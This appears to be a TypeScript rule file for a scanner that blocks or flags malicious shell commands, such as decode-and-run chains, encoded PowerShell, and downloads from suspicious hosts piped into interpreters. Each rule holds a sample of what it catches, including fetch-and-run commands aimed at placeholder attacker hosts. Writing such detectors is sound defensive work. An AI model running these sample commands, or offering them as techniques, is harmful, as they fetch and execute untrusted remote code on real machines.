import { oneOf, pattern } from '../text/pattern.js'
import { download, interpreter, suspiciousHost } from './parts.js'
import type { RuleText } from './rule.js'

const reason = 'malicious_shell'

const decoder = oneOf`
  base64 (?:-\w+ )*(?:-d|--decode|-di|-id)\b|base32 (?:-d|--decode)|
  openssl (?:enc |base64 )[^|\n]{0,40}-d\b|xxd (?:-r -p|-p -r|-r)\b|rev\b(?! )|
  tr (?:'|")?a-z(?:'|")? (?:'|")?n-za-m|uudecode
`
const toInterpreter = pattern`^[^\n|]{0,120}(?:\|[^\n|]{0,80}){0,2}\|\s?${interpreter}`
const blocked = { reason, status: 'blocked', reach: 'line' } as const
const tainted = { reason, status: 'tainted', reach: 'line' } as const

/** Rules for commands that run hidden code, or code from untrusted places (rules.md 1.6). */
export const shellRules: readonly RuleText[] = [
  // Decode and run
  {
    id: 'decode-and-pipe',
    catches: 'echo Y3VybA== | base64 -d | sh',
    passes: 'kubectl get secret db | base64 -d',
    ...blocked,
    start: pattern`\b${decoder}`,
    followedBy: [toInterpreter],
  },
  {
    id: 'evaluate-decoded',
    catches: 'eval "$(echo Y3VybA== | base64 -d)"',
    passes: 'eval "$(ssh-agent -s)"',
    ...blocked,
    start: pattern`
      (?:\beval\b|\b(?:ba|z|da|k)?sh -\w*c\b|\bsource\b|(?<=\s)\.) ?["']?(?:<\(|\$\(|
      \`)[^\n]{0,160}?${decoder}
    `,
  },
  {
    id: 'shell-reads-decoded',
    catches: 'bash <(echo Y3VybA== | base64 -d)',
    passes: 'bash <(kubectl completion bash)',
    ...blocked,
    start: /\b(?:ba|z|da|k)?sh\s?(?:-\w+ )?(?:<\(|<<<\s?["']?\$\()/,
    followedBy: [pattern`^[^\n]{0,160}?(?:${decoder}|${download}[^\n)]{0,80}?${suspiciousHost})`],
  },
  {
    id: 'interpreter-runs-decoded',
    catches: "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\"",
    passes: 'python3 -c "print(1)"',
    ...blocked,
    start: /\b(?:python[23]?|perl|ruby|node|php|deno eval)\b[^\n]{0,20}?-[cer]\b/,
    followedBy: [
      pattern`
        (?:exec|eval|system|os\.popen|subprocess|function)\s?\(?[^\n]{0,80}(?:b64decode|base64_decode|
        decode64|decode_base64|buffer\.from\([^\n]{4,200}?["'](?:base64|hex)["']|fromhex|unhexlify|
        marshal\.loads|zlib\.decompress|urlopen\(|requests\.get\()
      `,
    ],
  },
  {
    id: 'code-runs-decoded',
    catches: "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgx'))",
    passes: "base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgx')",
    ...blocked,
    start: pattern`
      \b(?:exec|eval)\s?\(\s?(?:__import__\(\s?["']base64["']\s?\)\.|base64\.|compile\(\s?base64\.|
      atob\(|marshal\.loads|zlib\.decompress\()
    `,
    followedBy: [/[a-z0-9+/=]{24,}/],
  },
  {
    id: 'printf-escapes-to-shell',
    catches: "printf '\\x63\\x75\\x72\\x6c' | sh",
    passes: "printf '\\x1b\\x5b\\x30\\x6d' > reset.txt",
    ...blocked,
    start: /\bprintf ["'](?:\\x[0-9a-f]{2}|\\[0-7]{3}){4,}[^\n|]{0,200}/,
    followedBy: [pattern`\|\s?${interpreter}`],
  },
  {
    id: 'powershell-encoded',
    catches: 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUA',
    passes: 'powershell -File build.ps1',
    ...blocked,
    start: /\b(?:powershell|pwsh)(?:\.exe)?\b/,
    followedBy: [/ -e(?:nc?|nco\w{0,10}|c)?\s["']?[a-z0-9+/=]{40,}/],
  },
  // Download from an untrusted place and run
  {
    id: 'run-from-odd-host',
    catches: 'curl -s http://203.0.113.9/x.sh | sh',
    passes: 'curl -fsSL https://get.docker.com | sh',
    ...blocked,
    start: pattern`${download}[^\n|]{0,160}?${suspiciousHost}[^\n|]{0,160}`,
    followedBy: [pattern`^(?:\|[^\n|]{0,60}){0,2}\|\s?${interpreter}`],
  },
  {
    id: 'download-and-mark-runnable',
    catches: 'wget http://203.0.113.9/m && chmod +x m',
    passes: 'wget https://example.com/m && chmod +x m',
    ...blocked,
    start: pattern`${download}[^\n]{0,120}?${suspiciousHost}`,
    followedBy: [
      pattern`
        \bchmod (?:\+x|a\+x|u\+x|[0-7]?7[0-7]{2})\b|(?:&&|;|\n) ?(?:sudo )?(?:ba|z|da)?sh (?:\.?/|\w)
      `,
    ],
    reach: 'passage',
  },
  {
    id: 'evaluate-download',
    catches: 'eval "$(curl -s http://203.0.113.9/x)"',
    passes: 'eval "$(curl -s https://example.com/init)"',
    ...blocked,
    start: pattern`
      (?:\beval\b|\b(?:ba|z|da|k)?sh -\w*c\b|\bpython3? -c\b) ?["']?(?:\$\(|
      \`) ?${download}[^\n]{0,120}?${suspiciousHost}
    `,
  },
  {
    id: 'run-download-in-background',
    catches: 'curl -s https://drop.example.net/x | sh > /dev/null 2>&1 &',
    passes: 'curl -s https://example.com/x | sh',
    ...tainted,
    start: pattern`${download}[^\n|]{0,200}`,
    followedBy: [
      pattern`
        ^(?:\|[^\n|]{0,60}){0,2}\|\s?${interpreter}[^\n|]{0,40}?(?:> ?/dev/null 2>&1 ?&|
        &> ?/dev/null ?&|2>/dev/null ?&)
      `,
    ],
  },
  {
    id: 'run-unverified-download',
    catches: 'curl -k https://drop.example.net/x | sh',
    passes: 'curl -k https://localhost:8443/health',
    ...tainted,
    start: pattern`
      ${download}[^\n|]{0,80}?(?: -\w*k\w*\b| --insecure\b| --no-check-certificate\b| http://
      (?!localhost|127\.|10\.|192\.168\.|[\w-]+[:/]|
      [\w.-]+\.(?:local|internal|lan|test)\b))[^\n|]{0,160}
    `,
    followedBy: [pattern`^(?:\|[^\n|]{0,60}){0,2}\|\s?${interpreter}`],
  },
  {
    id: 'invoke-downloaded',
    catches: "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
    passes: 'iex (Get-Content build.ps1 -Raw)',
    ...blocked,
    start: /\b(?:iex|invoke-expression)\b/,
    followedBy: [
      pattern`
        (?:downloadstring|invoke-webrequest|iwr|irm|invoke-restmethod|frombase64string|
        downloadfile)[^\n]{0,60}(?:${suspiciousHost}|frombase64string)
      `,
    ],
  },
  {
    id: 'download-to-invoke',
    catches: 'iwr http://203.0.113.9/a.ps1 | iex',
    passes: 'irm get.scoop.sh | iex',
    ...blocked,
    start: pattern`
      \b(?:downloadstring|iwr|irm|invoke-webrequest|
      invoke-restmethod)\b[^\n|]{0,40}?${suspiciousHost}[^\n|]{0,80}\|\s?(?:iex|invoke-expression)\b
    `,
  },
  {
    id: 'system-tool-downloads',
    catches: 'mshta http://203.0.113.9/a.hta',
    passes: 'certutil -hashfile setup.exe SHA256',
    ...blocked,
    start: /\b(?:mshta|regsvr32|rundll32|certutil|bitsadmin)(?:\.exe)?\b/,
    followedBy: [
      pattern`
        ^ ?["']?https?://|(?:-urlcache|/i:|javascript:|/transfer|vbscript:)[^\n]{0,60}https?://
      `,
    ],
    unless: /https?:\/\/(?:learn|docs)\.microsoft/,
  },
  {
    id: 'run-plain-http-download',
    catches: 'wget http://drop.example.net/u.sh -O /tmp/u; chmod +x /tmp/u; /tmp/u',
    passes: 'wget http://drop.example.net/u.tgz; tar xf u.tgz',
    ...tainted,
    start: pattern`
      ${download}[^\n|]{0,80}? http://(?!localhost|127\.|10\.|192\.168\.|[\w-]+[:/]|
      [\w.-]+\.(?:local|internal|lan|test)\b)
    `,
    followedBy: [
      /\bchmod (?:\+x|a\+x|u\+x|[0-7]?7[0-7]{2})\b/,
      /(?:&&|;|\n) ?(?:sudo )?(?:\/tmp|\/dev\/shm|\/var\/tmp|\.)\//,
    ],
    reach: 'passage',
  },
]
